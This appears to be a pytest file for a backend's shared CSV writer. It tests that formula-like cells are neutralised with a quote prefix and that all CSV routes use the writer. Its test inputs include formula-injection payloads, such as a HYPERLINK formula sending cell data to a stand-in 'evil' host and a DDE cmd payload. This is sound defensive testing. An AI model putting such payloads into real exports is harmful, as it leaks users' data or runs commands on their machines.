"""The shared CSV writer: formula neutralisation of every cell, and that every CSV export uses it."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest

from lineage_backend.services.csv_export import csv_text, safe_cell

REPO = Path(__file__).resolve().parents[3]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",  # leading spaces do not hide the sign
        "\u00a0=1+1",
        "\uff1d1+1",  # full-width equals sign
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
        "=",
    ],
)
def test_text_a_spreadsheet_would_run_is_prefixed_with_a_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "job:ns:etl.load", "1=1", "a-b", "mail@example.org", "", "'=quoted"])
def test_other_text_is_kept(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_times_and_empty_values() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(-5) == "-5"  # a number, not text: stays a number
    assert safe_cell(-0.25) == "-0.25"
    assert safe_cell(2.50000) == "2.5"
    assert safe_cell(100.0) == "100"
    assert safe_cell(datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc)) == "2026-01-02T03:04:05+00:00"


def test_csv_text_neutralises_header_and_cells_and_quotes_separators() -> None:
    text = csv_text(["Name", "=Header"], [['=cmd|"/c calc"!A1', 'a,"b"\nc'], [None, -1]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["Name", "'=Header"], ['\'=cmd|"/c calc"!A1', 'a,"b"\nc'], ["", "-1"]]


def test_no_module_writes_csv_but_the_shared_writer() -> None:
    """Every CSV export (today GET /api/v1/batches/{id}/processes.csv; the views of other issues later) must
    go through csv_export.csv_text, so that none forgets the neutralisation."""
    shared = REPO / "lineage_backend" / "services" / "csv_export.py"
    offenders = []
    for root in ("lineage_backend", "flowlytics_plugin"):
        for path in (REPO / root).rglob("*.py"):
            if path == shared or "node_modules" in path.parts:
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"^\s*(import csv|from csv import)", source, re.M):
                offenders.append(str(path.relative_to(REPO)))
    assert not offenders, f"write CSV with lineage_backend.services.csv_export.csv_text: {offenders}"


def test_every_csv_route_is_covered_by_an_injection_test(tmp_path: Path) -> None:
    """A new `.csv` route must get a formula-injection test here or beside its route tests."""
    from lineage_backend.app import create_app
    from tests.conftest import make_settings

    app = create_app(make_settings(db_url=f"sqlite:///{tmp_path / 'routes.db'}"))
    csv_routes = sorted(
        route.path
        for route in app.routes
        if getattr(route, "path", "").endswith(".csv")  # type: ignore[attr-defined]
    )
    covered = {
        # route → the test that posts formula text and reads it back neutralised
        "/api/v1/batches/{batch_id}/processes.csv": "tests/lineage_backend/api/test_batch_routes.py::"
        "test_csv_export_matches_the_table_and_neutralises_formulas",
    }
    assert csv_routes == sorted(covered), f"add a formula-injection test for {set(csv_routes) - set(covered)}"
    for test in covered.values():
        path, name = test.split("::")
        assert f"def {name}(" in (REPO / path).read_text(encoding="utf-8"), test
